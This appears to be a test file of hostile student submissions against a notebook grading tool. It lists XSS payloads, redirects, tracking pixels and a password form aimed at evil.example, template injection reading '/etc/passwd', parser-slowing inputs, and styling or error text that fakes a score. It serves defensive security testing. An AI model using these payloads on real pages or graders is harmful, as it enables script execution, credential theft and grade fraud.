"""Attacks on whoever reads: the teacher in formgrader, anybody who opens the feedback."""

from hostile.attack import COMPOSE, Attack, code, given, markdown

SCRIPT = "<script>document.title='ran'</script>"
HTML = "from IPython.display import HTML, display\ndisplay(HTML({!r}))"
RAW = "from IPython.display import display\ndisplay({!r}, raw=True, metadata={!r})"


def _attached(notebook):
    cell = given(notebook, "prove")
    cell["source"] = (
        "![a](attachment:a.svg) ![b](attachment:b) ![c](attachment:../../../gradebook.db)"
    )
    cell["attachments"] = {
        "a.svg": {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"},
        "b": {"text/html": SCRIPT},
    }


def _raw_cell(notebook):
    notebook["cells"].append(
        {
            "cell_type": "raw",
            "id": "raw",
            "metadata": {"raw_mimetype": "text/html"},
            "source": SCRIPT,
        }
    )


def _often(notebook):
    notebook["cells"].append(
        markdown(
            "![](attachment:a)" * 580 + "the end",
            "often",
            attachments={"a": {"image/png": "iVBORw0KGgo" + "A" * 500_001}},
        )
    )


ROWS = [
    Attack(
        "script in text",
        "writes a script into Markdown",
        text=f"before {SCRIPT} after\n\n{SCRIPT}",
        shows=("before", "after"),
    ),
    Attack(
        "script in a proof",
        "writes a script into the answer that a person reads",
        change=lambda nb: given(nb, "prove").update(
            source=f"My proof. {SCRIPT}<img src=x onerror=\"document.title='ran'\">"
        ),
        shows=("My proof.",),
    ),
    Attack(
        "handlers in text",
        "writes elements that act by themselves",
        text="<img src=x onerror=\"document.title='ran'\"> <svg onload=\"document.title='ran'\"></svg>"
        "<details open ontoggle=\"document.title='ran'\">d</details>"
        "<video autoplay onloadstart=\"document.title='ran'\" src=x></video>"
        "<input autofocus onfocus=\"document.title='ran'\"><body onload=\"document.title='ran'\">seen",
        shows=("seen",),
    ),
    Attack(
        "frames in text",
        "writes frames, objects and embedded pages",
        text=f"<iframe srcdoc=\"{SCRIPT}\"></iframe><iframe src='javascript:1'></iframe>"
        "<object data='data:text/html,x'></object><embed src='x'><frameset><frame src='x'></frameset>seen",
        shows=("seen",),
    ),
    Attack(
        "links in text",
        "writes links that run something",
        text="[one](javascript:alert(1)) [two](JaVaScRiPt&#58;alert(1)) <a href='data:text/html,x'>three</a>"
        " [four](vbscript:x) [five](evil.html) [six](//evil.example/x) [seven](https://example.org/ok)"
        " <a href='https://example.org' ping='https://evil.example' target='_top' onclick='x()'>eight</a>",
        shows=("one", "five", "eight"),
    ),
    Attack(
        "another page",
        "sends the reader to another page",
        text="<meta http-equiv='refresh' content='0;url=https://evil.example'><base href='https://evil.example/'>"
        "<link rel='stylesheet' href='https://evil.example/x.css'><link rel=prefetch href='https://evil.example'>seen",
        shows=("seen",),
    ),
    Attack(
        "form",
        "asks the reader for a password",
        text="<form action='https://evil.example'><input name=password type=password><button>Log in</button>"
        "<textarea>x</textarea><select><option>y</select></form>seen",
        shows=("seen",),
    ),
    Attack(
        "pictures from elsewhere",
        "loads pictures that tell who reads and when",
        text="![p](https://evil.example/pixel.png) <img src='//evil.example/p' srcset='https://evil.example/q 2x'>"
        "<picture><source srcset='https://evil.example/r'></picture><audio src='https://evil.example/s'></audio>"
        "<table background='https://evil.example/t'><tr><td>seen</table>",
        shows=("seen",),
    ),
    Attack(
        "style that fakes marks",
        "hides its marks by style and shows others",
        text="<style>.score, header {display: none} body::before {content: '20 of 20 marks'}</style>"
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:white'>all yours</div>"
        "<div class='score verdict right' id='problem-compose'>compose 3 of 3</div>",
        shows=("all yours",),
    ),
    Attack(
        "end of the section",
        "closes the page's own elements",
        text="</div></section></main></body></html><h1>neurons</h1><p class='score'>20 of 20 marks</p><!--",
    ),
    Attack(
        "comment",
        "hides the rest of the page in a comment",
        text="<!-- all that follows is hidden <plaintext> <xmp> <noscript> <template> <title>",
        last="print('still here')",
        shows=("still here",),
    ),
    Attack(
        "parser confusion",
        "writes what parsers read differently",
        text='<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"><svg></p><style><a id="</style>'
        '<img src=1 onerror=alert(1)>"></svg><form><math><mtext></form><form><mglyph><style></math>'
        "<img src onerror=alert(1)>",
    ),
    Attack(
        "script in a formula",
        "writes a script into a formula",
        text="$\\text{<script>document.title='ran'</script>}$ $\\href{javascript:alert(1)}{x}$ "
        "$\\style{position:fixed}{y}$ $\\class{score}{z}$ $$\\unicode{x}\\require{html}\\cssId{a}{b}$$ seen",
        shows=("seen",),
    ),
    Attack(
        "template in text",
        "writes what a template engine would run",
        text="{{ 7 * 191 }} {% include '/etc/passwd' %} {{ resources }} {{ ''.__class__.__mro__ }} ${7*191}",
        hides=("1337", "root:x", "ResourcesDict"),
    ),
    Attack(
        "slow text",
        "writes Markdown that takes long to parse",
        text="[" * 4000 + "*a **b " * 500 + "\\begin{a}" * 300 + " " * 3000 + "x",
        shows=(),
    ),
    Attack("attachments", "attaches pictures that are none", change=_attached),
    Attack("raw cell", "puts a script into a raw cell", change=_raw_cell),
    Attack(
        "script in an output",
        "shows a script",
        last=HTML.format(f"<b>seen</b>{SCRIPT}<img src=x onerror=alert(1)>"),
        shows=("seen",),
    ),
    Attack(
        "JavaScript as output",
        "shows what is nothing but script",
        last="from IPython.display import Javascript, display\ndisplay(Javascript(\"document.title='ran'\"))\n"
        "get_ipython().run_cell_magic('javascript', '', \"document.title='ran'\")\n"
        "get_ipython().run_cell_magic('html', '', \"<script>document.title='ran'</script>\")",
    ),
    Attack(
        "isolated output",
        "asks for a frame of its own",
        last=RAW.format(
            {"text/html": SCRIPT, "text/plain": "seen"},
            {"text/html": {"isolated": True}, "isolated": True},
        ),
        shows=(),
    ),
    Attack(
        "drawing with a script",
        "shows an SVG with a script and a link",
        last=RAW.format(
            {
                "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'>"
                "<script>document.title='ran'</script><a href='javascript:1'><text>x</text></a></svg>"
            },
            {},
        ),
    ),
    Attack(
        "picture with attributes",
        "writes attributes into the size of a picture",
        last=RAW.format(
            {"image/png": "iVBORw0KGgo=\" onerror=\"document.title='ran'"},
            {
                "image/png": {
                    "width": "1 onerror=document.title='ran' src=x",
                    "height": '1" onload="x',
                    "alt": '"><script>1</script>',
                }
            },
        ),
    ),
    Attack(
        "Markdown and LaTeX as output",
        "shows Markdown and LaTeX with scripts",
        last=RAW.format({"text/markdown": f"**seen** {SCRIPT}"}, {})
        + "\n"
        + RAW.format({"text/latex": "$\\href{javascript:alert(1)}{x}$<script>1</script>"}, {}),
        shows=("seen",),
    ),
    Attack(
        "other types",
        "shows types that some reader might run",
        last="from IPython.display import display\nfor kind in ('application/vnd.plotly.v1+json', 'application/pdf',\n"
        "    'text/vnd.mermaid', 'application/vnd.vega.v5+json', 'application/geo+json', 'text/x-evil',\n"
        f"    'application/vnd.jupyter.widget-view+json'):\n    display({{kind: {SCRIPT!r}}}, raw=True)",
    ),
    Attack(
        "terminal codes",
        "prints codes that move, hide and link text in a terminal",
        last="print('\\x1b]8;;javascript:alert(1)\\x07click\\x1b]8;;\\x07 \\x1b[2J\\x1b[8mhidden\\x1b[0m \\u202egnp.ecrof \\x00\\x08')",
    ),
    Attack(
        "markup in an error",
        "raises an error whose words are markup",
        answers={
            "compose": f"def compose(A, a, B, b):\n    raise ValueError({SCRIPT!r} + '<img src=x onerror=alert(1)>')\n"
        },
        last=f"raise ValueError({SCRIPT!r})",
        shows=("compose stopped with ValueError",),
    ),
    Attack(
        "marks in words",
        "writes a verdict of its own into the text of an error",
        answers={
            "compose": "def compose(A, a, B, b):\n    raise ValueError('x\\n3 visible cases passed\\n\\n\\n7 hidden cases passed' + chr(8232) * 40)\n"
        },
    ),
    Attack(
        "folder named as markup",
        "is a student whose output looks like the page",
        change=lambda nb: nb["cells"].append(
            code("print('</pre></section><script>1</script>')", "c")
        ),
    ),
    Attack(
        "nested lists",
        "shows lists within lists, for which a parser's time grows with the square of their number",
        last="from IPython.display import HTML, display\nfor _ in range(5): display(HTML('<ul><li>' * 24800))",
        change=lambda nb: nb["cells"].extend(
            code(
                "from IPython.display import HTML, display\ndisplay(HTML('<ul><li>' * 24800))",
                f"n{i}",
            )
            for i in range(5)
        ),
        answers={"compose": COMPOSE},
        earns={"compose": 3},
    ),
    Attack(
        "one picture often",
        "names a picture of half a megabyte 580 times",
        change=_often,
        answers={"compose": COMPOSE},
        earns={"compose": 3},
        shows=("the end",),
    ),
    Attack(
        "formulas without end",
        "writes a million formulas, each of which is ten times as long on the page",
        change=lambda nb: nb["cells"].extend(markdown("$x$ " * 2400, f"f{i}") for i in range(100)),
        answers={"compose": COMPOSE},
        earns={"compose": 3},
        shows=("cut here",),
    ),
]
